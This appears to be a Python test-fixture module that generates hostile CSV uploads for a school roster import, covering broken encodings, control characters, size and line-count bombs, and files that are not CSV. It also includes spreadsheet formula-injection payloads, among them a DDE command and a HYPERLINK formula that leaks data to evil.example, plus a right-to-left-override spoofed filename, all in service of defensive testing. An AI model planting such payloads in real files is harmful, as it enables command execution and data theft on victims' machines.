"""Hostile import files, generated at test time instead of committed.

Each entry of `FILES` makes the bytes of one upload as a stream of chunks, so a 50 MB line
or an endless run of empty lines never sits in memory or in the repository. A generator is
given the district's Database IDs by username (`ids["jgarcia"]`) for rows that name
existing students. `GeneratedUploads` is a folder store whose upload keys can be served
from such a generator, read as lazily as the import reads them.
"""

from __future__ import annotations

import csv
import gzip
import io
import itertools
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING, BinaryIO, cast

from storage.objects import FolderStore

if TYPE_CHECKING:
    from _typeshed import WriteableBuffer

Ids = Mapping[str, str]
Chunks = Iterable[bytes]
Generator = Callable[[Ids], Chunks]

MB = 1024 * 1024
HEADER = (
    "Database ID,First Name,Last Name,Username,Password,External Assigned ID,Grade,Organizations"
)
EVERY_COLUMN = (
    "Database ID,First Name,Last Name,Username,Password,External Assigned ID,Grade,"
    "Organizations,Classes/Groups,Birth Date,Gender,Race,Hispanic or Latino,English Learner,"
    "Special Education,Economically Disadvantaged,Home Language,Test Text-to-Speech,"
    "Test Extended Time"
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
)
"""Formula starts a spreadsheet runs: DDE, HYPERLINK, `+`, `-`, `@`, tab and CR starts."""


def new_student(number: int, first: str = "Ann", last: str = "Lee") -> str:
    """A row that creates a valid student `hostile<number>`."""
    return f",{first},{last},hostile{number},secret1,H-{number},3,North Elementary"


def lines(*rows: str, end: str = "\r\n") -> bytes:
    return "".join(row + end for row in rows).encode("utf-8")


def _students(count: int, first: str = "Ann") -> list[str]:
    return [new_student(number, first) for number in range(count)]


def _repeat(block: bytes, total: int) -> Iterator[bytes]:
    """`block` repeated until `total` bytes were given, in chunks of about 1 MB."""
    chunk = block * max(1, MB // len(block))
    sent = 0
    while sent < total:
        piece = chunk[: total - sent]
        sent += len(piece)
        yield piece


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _text(encoding: str, bom: bytes) -> Generator:
    text = "\r\n".join((HEADER, new_student(1, "Zoë"), new_student(2, "José"))) + "\r\n"
    return lambda ids: [bom + text.encode(encoding)]


_VALID = lines(HEADER, *_students(3))
_HTML = (
    "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>\n"
    "<body><h1>502 Bad Gateway</h1><p>nginx</p></body></html>\n"
)


FORMULA_STUDENTS = (
    # First Name, Last Name, External Assigned ID, Race, Home Language: the free-text columns
    (FORMULAS[0], "+Jones", "-1", "@risk", "-es"),
    (FORMULAS[1], "@Smith", "+2", "=1", "+fr"),
    (FORMULAS[2], "-Brown", "@3", "+x", "=de"),
    (FORMULAS[3], "=Lee", "-4", "-y", "@it"),
    (FORMULAS[4], "\t-Ruiz", "+5", "\t@z", "\r-pt"),
    (FORMULAS[5], "'=Kim", "'-6", "'@w", "'=nl"),
    (FORMULAS[6], "'+Park", "'=7", "'-v", "'@pl"),
)
"""Rows 3 to 9 of `formula_payloads_in_every_column`, each creating student `formula<row>`."""


def _csv_rows(rows: Iterable[Iterable[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def _formulas_in_every_column(ids: Ids) -> Chunks:
    header = EVERY_COLUMN.split(",")
    every = [FORMULAS[number % len(FORMULAS)] for number in range(len(header))]
    created = [
        [
            *("", first, last, f"formula{row}", "secret1", external, "3", "North Elementary"),
            *("", "", "", race, "", "", "", "", language, "", ""),
        ]
        for row, (first, last, external, race, language) in enumerate(FORMULA_STUDENTS, start=3)
    ]
    return [_csv_rows([header, every, *created])]


def _endless(line: bytes) -> Generator:
    """The header, then `line` over and over, without end."""

    def generate(ids: Ids) -> Chunks:
        yield lines(HEADER)
        yield from itertools.repeat(line * (MB // len(line)))

    return generate


def _rows_between_empty_lines(ids: Ids) -> Chunks:
    """Rows 2, 200,003, 400,004 and 600,005, with 200,000 empty lines before each but the first."""
    yield lines(HEADER, new_student(1))
    for number, end in enumerate((b"\n", b"\r", b"\r\n"), start=2):
        yield from _repeat(end, 200_000 * len(end))
        yield lines(new_student(number))


FILES: dict[str, Generator] = {
    # --- not UTF-8 after valid rows ---
    "invalid_utf8_undefined_byte_mid_file": lambda ids: [
        lines(HEADER, *_students(200)),
        b",Jos\x81,Lee,jlee,secret1,J-1,3,North Elementary\r\n",
        lines(*_students(5)),
    ],
    "invalid_utf8_cut_letter_after_utf8_letters": lambda ids: [
        lines(HEADER, *_students(200, "Zoé")),
        b",Jos\xc3,Lee,jlee,secret1,J-1,3,North Elementary\r\n",
    ],
    "invalid_utf8_after_bom_mid_file": lambda ids: [
        b"\xef\xbb\xbf" + lines(HEADER, *_students(200)),
        b",Ren\xff,Lee,rlee,secret1,R-1,3,North Elementary\r\n",
    ],
    # --- other Unicode encodings ---
    "utf16_le_with_bom": _text("utf-16-le", b"\xff\xfe"),
    "utf16_be_with_bom": _text("utf-16-be", b"\xfe\xff"),
    "utf16_le_without_bom": _text("utf-16-le", b""),
    "utf32_le_with_bom": _text("utf-32-le", b"\xff\xfe\x00\x00"),
    "utf32_be_with_bom": _text("utf-32-be", b"\x00\x00\xfe\xff"),
    # --- NUL and control characters ---
    "nul_bytes_inside_cells": lambda ids: [
        lines(HEADER, ",Jo\x00e,Lee,jlee,secret1,J-1,3,North Elementary", new_student(1)),
        lines(",Ann,Lee,alee,secret1,A-1,3,North Elementary\x00"),
    ],
    "nul_padding_after_header": lambda ids: [lines(HEADER), b"\x00" * 4096],
    "control_bytes_after_header": lambda ids: [lines(HEADER), bytes(range(32)) * 128],
    "control_characters_in_names": lambda ids: [
        lines(
            HEADER,
            ",Bell\x07,Lee,blee,secret1,B-1,3,North Elementary",
            ",Ann,\x1b[31mRed\x1b[0m,rred,secret1,R-1,3,North Elementary",
            new_student(1),
        )
    ],
    "right_to_left_override_in_names": lambda ids: [
        lines(
            HEADER,
            ",\u202eftg.exe,Lee,rtl1,secret1,R-1,3,North Elementary",
            ",Ann,Lee\u202d\u202c,rtl2,secret1,R-2,3,North Elementary",
            ",Ann,\u2067Lee\u2069,rtl3,secret1,R-3,3,North Elementary",
        )
    ],
    "right_to_left_names": lambda ids: [
        lines(
            HEADER,
            ",محمد,العلي,rtl_ar,secret1,R-1,3,North Elementary",
            ",שרה,כהן\u200f-Cohen,rtl_he,secret1,R-2,3,North Elementary",
        )
    ],
    "zero_width_joiners_in_names": lambda ids: [
        lines(
            HEADER,
            ",\U0001f469\u200d\U0001f467,Lee,zwj1,secret1,Z-1,3,North Elementary",
            ",\u0915\u094d\u200d\u0937,Sharma\u200b,zwj2,secret1,Z-2,3,North Elementary",
        )
    ],
    # --- quotes ---
    "unterminated_quote_in_header": lambda ids: [
        lines('"' + HEADER, *_students(3)),
    ],
    "unterminated_quote_at_first_data_row": lambda ids: [
        lines(HEADER, '"' + new_student(1), *_students(3)),
    ],
    "unterminated_quote_near_end": lambda ids: [
        lines(HEADER, *_students(500), ',Ann,"Lee,hostile999,secret1,H-999,3,North Elementary'),
        lines(*_students(2)),
    ],
    "quoted_line_breaks_bomb": lambda ids: [
        lines(HEADER) + b',"',
        *_repeat(b"\n", 1_000_000),
        b'",Lee,blee,secret1,B-1,3,North Elementary\r\n',
    ],
    "quoted_line_breaks_under_cell_limit": lambda ids: [
        lines(HEADER) + b',"Ann' + b"\n" * 9_000 + b"Lee",
        b'",Lee,blee,secret1,B-1,3,North Elementary\r\n',
        lines(new_student(1)),
    ],
    # --- sizes and limits ---
    "single_50mb_line": lambda ids: [
        lines(HEADER),
        *_repeat(b"abcdefghij", 50 * MB),
    ],
    "million_columns": lambda ids: [lines(HEADER), b"a," * 999_999 + b"a\r\n"],
    "million_quoted_columns": lambda ids: [lines(HEADER), b'"a",' * 999_999 + b'"a"\r\n'],
    "ten_thousand_empty_header_columns": lambda ids: [
        (HEADER + "," * 10_000 + "\r\n").encode(),
        lines(*_students(2)),
    ],
    "cell_over_the_limit": lambda ids: [
        lines(HEADER, new_student(1), new_student(2, "x" * 10_001)),
    ],
    "cell_at_the_limit": lambda ids: [
        lines(HEADER, new_student(1), new_student(2, "x" * 10_000)),
    ],
    "extremely_long_username": lambda ids: [
        lines(HEADER, ",Ann,Lee," + "u" * 5_000 + ",secret1,U-1,3,North Elementary"),
    ],
    "extremely_long_educator_email": lambda ids: [
        lines(
            "Database ID,First Name,Last Name,Username,Educator Type,Organizations",
            ",Ann,Lee," + "a" * 290 + "@example.org,Teacher,North Elementary",
        )
    ],
    "rows_over_max_rows": lambda ids: [lines(HEADER, *_students(4))],
    "rows_at_max_rows": lambda ids: [lines(HEADER, *_students(3))],
    "empty_lines_under_the_byte_limit": lambda ids: [
        lines(HEADER),
        *_repeat(b"\r\n", 60 * MB),
    ],
    "endless_empty_lines": _endless(b"\r\n"),
    "endless_rows_of_commas": _endless(b",,,,,,,\r\n"),
    "empty_lines_under_a_small_byte_limit": lambda ids: [lines(HEADER), *_repeat(b"\r\n", MB // 2)],
    "endless_empty_lines_past_a_small_byte_limit": _endless(b"\r\n"),
    # a spreadsheet's formatted but empty rows, down to its last one (1,048,576)
    "a_million_blank_spreadsheet_rows_then_a_row": lambda ids: [
        lines(HEADER),
        *_repeat(b",,,,,,,\r\n", 1_048_574 * 9),
        lines(new_student(1)),
    ],
    "rows_between_long_runs_of_lf_cr_and_crlf_empty_lines": _rows_between_empty_lines,
    # --- not CSV at all ---
    "gzip_named_csv": lambda ids: [gzip.compress(_VALID)],
    "zip_named_csv": lambda ids: [_zip({"students.csv": _VALID})],
    "xlsx_named_csv": lambda ids: [
        _zip(
            {
                "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
                "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
            }
        )
    ],
    "xls_named_csv": lambda ids: [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504],
    "html_error_page": lambda ids: [_HTML.encode()],
    "html_error_page_with_bom": lambda ids: [b"\xef\xbb\xbf" + _HTML.encode()],
    "html_error_page_after_blank_lines": lambda ids: [b"\r\n  \r\n\t" + _HTML.upper().encode()],
    "html_page_saved_by_a_browser": lambda ids: [
        b"<!-- saved from url=(0022)http://internet.e-mail -->\r\n" + _HTML.encode()
    ],
    # --- formulas ---
    "formula_payloads_in_every_column": _formulas_in_every_column,
    # --- next to nothing ---
    "header_only_without_line_end": lambda ids: [HEADER.encode()],
    "header_then_blank_lines": lambda ids: [lines(HEADER, *[""] * 1_000, ",,,,,,,")],
    "bom_only": lambda ids: [b"\xef\xbb\xbf"],
    "bom_then_blank_lines": lambda ids: [b"\xef\xbb\xbf\r\n\r\n\r\n"],
    "header_repeated_as_data_row": lambda ids: [
        lines(
            HEADER,
            f"{ids['jgarcia']},José,García,jgarcia,,000123,3,North Elementary",
            HEADER,
            new_student(1),
        )
    ],
}


class _ChunkReader(io.RawIOBase):
    """The bytes of a chunk iterator, handed on as they are asked for."""

    def __init__(self, chunks: Chunks) -> None:
        super().__init__()
        self._chunks = iter(chunks)
        self._left = memoryview(b"")

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: WriteableBuffer, /) -> int:
        while not self._left:
            chunk = next(self._chunks, None)
            if chunk is None:
                return 0
            self._left = memoryview(chunk)
        target = memoryview(buffer).cast("B")
        size = min(len(target), len(self._left))
        target[:size] = self._left[:size]
        self._left = self._left[size:]
        return size


class GeneratedUploads(FolderStore):
    """A folder store that serves chosen keys from a generator, made anew at every read."""

    def __init__(self, root: Path) -> None:
        super().__init__(root)
        self._generated: dict[str, Callable[[], Chunks]] = {}

    def generate(self, key: str, make: Callable[[], Chunks]) -> None:
        self._generated[key] = make

    @contextmanager
    def open_read(self, key: str) -> Iterator[BinaryIO]:
        make = self._generated.get(key)
        if make is None:
            with super().open_read(key) as stream:
                yield stream
            return
        with io.BufferedReader(_ChunkReader(make())) as stream:
            yield cast(BinaryIO, stream)
